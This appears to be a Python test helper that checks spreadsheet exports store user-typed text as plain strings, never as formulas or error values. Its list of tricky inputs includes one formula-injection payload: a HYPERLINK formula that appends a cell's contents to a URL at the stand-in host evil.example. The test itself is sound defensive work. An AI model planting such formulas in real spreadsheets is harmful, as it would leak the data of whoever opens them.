"""What every .xlsx export must hold to (core.spreadsheet): text a user typed reads back as
the very same text, stored as a string, never as a formula or an error value."""
import io

from openpyxl import load_workbook

# A formula that phones home, the other characters spreadsheets start formulas with, and an
# error literal (which openpyxl would otherwise store as an error value).
TRICKY_TEXTS = ('=HYPERLINK("http://evil.example/?x="&A2,"点击")', "+1+1", "-2+3",
                "@SUM(1+1)", "=1+1", "#N/A")


def assert_stored_as_text(body: bytes, texts=TRICKY_TEXTS) -> None:
    """Each of ``texts`` is a cell of the workbook ``body``, read back unchanged (no quote
    added) and of data type "s"."""
    book = load_workbook(io.BytesIO(body))
    cells = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in texts:
                    cells.setdefault(cell.value, []).append(cell)
    assert set(cells) == set(texts), set(texts) - set(cells)
    for text, found in cells.items():
        assert [cell.data_type for cell in found] == ["s"] * len(found), text
